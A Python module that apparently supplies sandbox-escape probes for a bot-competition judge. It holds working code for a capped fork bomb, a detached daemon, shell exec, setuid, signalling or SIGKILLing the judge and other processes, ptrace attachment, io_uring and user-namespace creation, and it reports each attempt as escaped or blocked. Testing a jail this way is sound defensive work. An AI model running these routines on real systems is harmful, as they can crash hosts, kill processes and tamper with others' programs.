"""Attacks on processes and privileges: forks, exec, setuid, signals, ptrace, io_uring, namespaces."""
from __future__ import annotations

import ctypes
import json
import os
import signal
import time

from hostile_lib import Attack, Context, errno_error, other_bot_folder, sleep_forever

BOMB_DOUBLINGS = 8            # at most 2**8 processes, even with no limit at all
DAEMON_LIFE_S = 30.0
PROBE_PIDS = range(2, 33)
PTRACE_SEIZE = 0x4206
SYS_IO_URING_SETUP = 425
IO_URING_PARAMS_BYTES = 120
CLONE_NEWUSER = 0x10000000


def libc() -> ctypes.CDLL:
    library = ctypes.CDLL(None, use_errno=True)
    library.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
    library.ptrace.restype = ctypes.c_long
    library.syscall.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p)
    library.syscall.restype = ctypes.c_long
    library.unshare.argtypes = (ctypes.c_int,)
    return library


def fork_bomb(ctx: Context) -> bool:
    """Every process doubles, BOMB_DOUBLINGS times; then all of them sleep."""
    original = os.getpid()
    for round_ in range(BOMB_DOUBLINGS):
        try:
            os.fork()
        except OSError as exc:
            if os.getpid() == original:
                ctx.blocked(f"fork round {round_}", exc)
                if round_ == 0:
                    return False              # fork is refused outright: play on
            break
    if os.getpid() == original:
        ctx.escaped("fork", "forked")
    sleep_forever()
    return True


def double_fork_daemon(ctx: Context) -> bool:
    """fork, setsid, fork again: a grandchild nobody waits for, outside the bot's session."""
    first = ctx.attempt("fork", os.fork)
    if first is None:
        return False
    if first == 0:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        daemon(ctx)
    os.waitpid(first, 0)
    ctx.report("daemon", "info", "a daemon was started")
    return False


def daemon(ctx: Context) -> None:
    """Outlive the match and then write where the judge can see it."""
    os.close(0)
    os.close(1)
    deadline = time.monotonic() + DAEMON_LIFE_S
    while time.monotonic() < deadline:
        time.sleep(0.2)
        for folder in ("/tmp", *ctx.args.write_dir):
            try:
                with open(os.path.join(folder, f"hostile-{ctx.args.token}-daemon"), "x") as handle:
                    handle.write("the daemon survived")
            except OSError:
                pass
    os._exit(0)


def exec_sh(ctx: Context) -> bool:
    report = {"behaviour": ctx.behaviour, "step": "execve", "outcome": "escaped", "detail": "a shell runs"}
    script = f"echo 'HOSTILE {json.dumps(report)}' >&2; echo PWNED-{ctx.args.token} >&2; exec sleep 3600"
    ctx.attempt("execve /bin/sh", lambda: os.execv("/bin/sh", ["sh", "-c", script]))
    return False


def setuid_root(ctx: Context) -> bool:
    ctx.attempt("setuid(0)", lambda: os.setuid(0))
    euid = os.geteuid()
    if euid == 0:
        ctx.escaped("euid", "runs as root")
    else:
        ctx.report("euid", "blocked", f"runs as uid {euid}")
    return False


def kill_parent(ctx: Context) -> bool:
    """Signal the judge (its pid is given; SIGUSR2 so a test can count it instead of dying)."""
    parent = os.getppid()
    targets = {ctx.args.judge_pid, *([parent] if parent > 1 else [])} - {0, os.getpid()}
    for pid in sorted(targets):
        if ctx.attempt(f"kill {pid}", lambda: os.kill(pid, signal.SIGUSR2) or True):
            ctx.escaped(f"kill {pid}", "delivered SIGUSR2 to the judge")
    return False


def kill_all(ctx: Context) -> bool:
    """kill(-1): first probe with signal 0, so a jail that fails this cannot take the machine down."""
    if ctx.attempt("kill(-1, 0)", lambda: os.kill(-1, 0) or True):
        ctx.escaped("kill(-1, 0)", "can signal other processes; SIGKILL not sent")
        return False
    if ctx.attempt("kill(-1, SIGKILL)", lambda: os.kill(-1, signal.SIGKILL) or True):
        ctx.escaped("kill(-1, SIGKILL)", "signalled other processes")
    return False


def find_other(ctx: Context) -> int | None:
    """The other bot's pid, found by its working folder in /proc (None if /proc shows nothing)."""
    folder = other_bot_folder(ctx)
    try:
        pids = [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError as exc:
        ctx.blocked("find other bot", exc)
        return None
    for pid in pids:
        try:
            if os.readlink(f"/proc/{pid}/cwd") == folder:
                ctx.report("find other bot", "info", f"pid {pid}")
                return int(pid)
        except OSError:
            continue
    ctx.report("find other bot", "blocked", "not visible in /proc")
    return None


def kill_other_bot(ctx: Context) -> bool:
    target = find_other(ctx)
    if target is not None:
        if ctx.attempt(f"kill {target}", lambda: os.kill(target, signal.SIGKILL) or True):
            ctx.escaped(f"kill {target}", "killed the other bot")
        return False
    probe_pids(ctx)
    return False


def probe_pids(ctx: Context) -> None:
    """The other bot is not visible: guess pids (signal 0 only: they are not known to be bots)."""
    refused = {}
    for pid in PROBE_PIDS:
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, 0)
        except OSError as exc:
            refused[pid] = exc.errno
            continue
        ctx.escaped(f"probe {pid}", "can signal a process it does not own")
        return
    ctx.report("probe pids", "blocked", f"no guessed pid can be signalled: {sorted(set(refused.values()))}")


def ptrace_other_bot(ctx: Context) -> bool:
    """PTRACE_SEIZE (it does not stop the tracee) the other bot, or the judge when the bot is hidden."""
    target = find_other(ctx) or ctx.args.judge_pid
    library = libc()
    if library.ptrace(PTRACE_SEIZE, target, None, None) == 0:
        ctx.escaped(f"ptrace {target}", "attached")
    else:
        ctx.blocked(f"ptrace {target}", errno_error(ctypes.get_errno()))
    return False


def io_uring(ctx: Context) -> bool:
    params = ctypes.create_string_buffer(IO_URING_PARAMS_BYTES)
    library = libc()
    ring = library.syscall(SYS_IO_URING_SETUP, 8, params)
    if ring >= 0:
        ctx.escaped("io_uring_setup", f"ring fd {ring}")
    else:
        ctx.blocked("io_uring_setup", errno_error(ctypes.get_errno()))
    return False


def user_namespace(ctx: Context) -> bool:
    library = libc()
    if library.unshare(CLONE_NEWUSER) == 0:
        ctx.escaped("unshare(CLONE_NEWUSER)", f"in a new user namespace as uid {os.getuid()}")
    else:
        ctx.blocked("unshare(CLONE_NEWUSER)", errno_error(ctypes.get_errno()))
    return False


ATTACKS: dict[str, Attack] = {
    "fork-bomb": fork_bomb, "double-fork-daemon": double_fork_daemon, "exec-sh": exec_sh,
    "setuid-root": setuid_root, "kill-parent": kill_parent, "kill-all": kill_all,
    "kill-other-bot": kill_other_bot, "ptrace-other-bot": ptrace_other_bot, "io-uring": io_uring,
    "user-namespace": user_namespace,
}
